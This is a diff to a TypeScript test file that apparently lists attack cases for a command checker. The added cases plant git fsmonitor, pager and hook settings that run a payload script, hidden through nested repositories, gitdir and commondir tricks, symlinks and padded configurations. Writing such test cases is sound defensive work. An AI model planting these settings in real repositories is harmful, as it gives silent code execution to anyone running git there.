@@ -8,6 +8,13 @@ const evilRemote = [
   'git config core.repositoryformatversion 1; git config extensions.partialClone origin; git config remote.origin.promisor true',
   'git config remote.origin.url @WORK; git config remote.origin.uploadpack @WORK/payload.sh',
 ].join('; ')
+/** Git starts a monitor without arguments that the payload would understand. */
+const program = "printf '#!/bin/sh\\nexec @WORK/payload.sh\\n' > e.sh; chmod +x e.sh"
+const made = `${program}; git init -q n; git -C n -c user.name=a -c user.email=a commit -q --allow-empty -m x`
+/** The repository above lists it, and so git looks into it there too. */
+const listed = 'git update-index --add --cacheinfo 160000,$(git -C n rev-parse HEAD),n'
+const monitor = "printf '[core]\\n\\tfsmonitor = @WORK/e.sh\\n'"
+
 /** Git reads it from the index, and fetches it for that. */
 const withoutIgnoreFile =
   "echo '*.log' > .gitignore; touch b.log; git add -f .gitignore b.log; git update-index --skip-worktree .gitignore; find $(git rev-parse --git-path objects) -name $(git rev-parse :.gitignore | cut -c3-) -delete; rm .gitignore"
@@ -108,6 +115,68 @@ export const repositories: AttackClass = {
         'git config extensions.worktreeConfig true; git worktree add -q ../w; rm -f .git/worktrees/w/config.worktree',
       cleanup: 'rm -rf ../w',
       later: 'git -C ../w status',
+    },
+    ...[
+      ['new repository', `${made}; git -C n config core.fsmonitor @WORK/e.sh; ${listed}`],
+      [
+        'new repository with a configuration of its worktree',
+        `${made}; git -C n config extensions.worktreeConfig true; ${monitor} > n/.git/config.worktree; ${listed}`,
+      ],
+      [
+        'new repository with a long configuration',
+        `${made}; { cat n/.git/config; yes '#' | head -c 1100000; printf '\\n'; ${monitor}; } > c; mv c n/.git/config; ${listed}`,
+      ],
+      [
+        'new repository whose folder is in that of the one above',
+        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mv n/.git .git/store; echo 'gitdir: ../.git/store' > n/.git; ${listed}`,
+      ],
+      [
+        'new repository whose folder is found by a link',
+        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mkdir -p .s/a; mv n/.git .s/store; ln -s ../.s/a n/l; echo 'gitdir: l/../store' > n/.git; ${listed}`,
+      ],
+      [
+        'new repository in two folders',
+        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mkdir .s .g; mv n/.git/objects n/.git/refs n/.git/config .s; mv n/.git/HEAD .g; echo ../.s > .g/commondir; rm -r n/.git; echo 'gitdir: ../.g' > n/.git; ${listed}`,
+      ],
+      [
+        'new repository among installed packages',
+        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mkdir node_modules; mv n node_modules; ${listed.replaceAll(/\bn\b/g, 'node_modules/n')}`,
+      ],
+      [
+        'new repository in a folder that cannot be listed',
+        `${made}; git -C n config core.fsmonitor @WORK/e.sh; mkdir d; mv n d; ${listed.replaceAll(/\bn\b/g, 'd/n')}; chmod 311 d`,
+      ],
+      [
+        'hook of a new repository',
+        `${made}; cp e.sh n/.git/hooks/post-index-change; ${listed}; touch n/x; git -C n add x`,
+      ],
+    ].map(([name = '', line = '']) => ({ name: `${name}, from above`, line, later: 'git status; git diff' })),
+    {
+      name: 'repository whose folder is made by a second command',
+      line: `${program}; cp -r .git store; git config -f store/config core.fsmonitor @WORK/e.sh`,
+      setup: "mkdir n; echo 'gitdir: ../store' > n/.git",
+      later: 'git -C n status',
+    },
+    {
+      name: 'folder that is made into a git folder by a HEAD and a commondir',
+      line: `${program}; mkdir -p .store/objects .store/refs; echo 'ref: refs/heads/main' > docs/HEAD; echo ../.store > docs/commondir; printf '[core]\\n\\tpager = @WORK/e.sh\\n' > .store/config`,
+      later: "cd docs && script -qc 'git config -l' /dev/null",
+      needs: ['script'],
+    },
+    {
+      name: 'workspace that is made into a git folder by a HEAD and a commondir',
+      line: `${program}; mkdir -p .store/objects .store/refs; echo 'ref: refs/heads/main' > HEAD; echo .store > commondir; printf '[core]\\n\\tpager = @WORK/e.sh\\n' > .store/config`,
+      setup: 'rm -rf .git',
+      later: "rmdir .git/* .git; script -qc 'git config -l' /dev/null",
+      needs: ['script'],
+    },
+    {
+      name: 'settings for git folders that were made into ones before',
+      line: `${program}; printf '[core]\\n\\tpager = @WORK/e.sh\\n' > .store/config`,
+      setup:
+        "mkdir -p .store/objects .store/refs; echo 'ref: refs/heads/main' > docs/HEAD; echo ../.store > docs/commondir; echo > .store/config",
+      later: "cd docs && script -qc 'git config -l' /dev/null",
+      needs: ['script'],
     },
     {
       name: 'common folder',
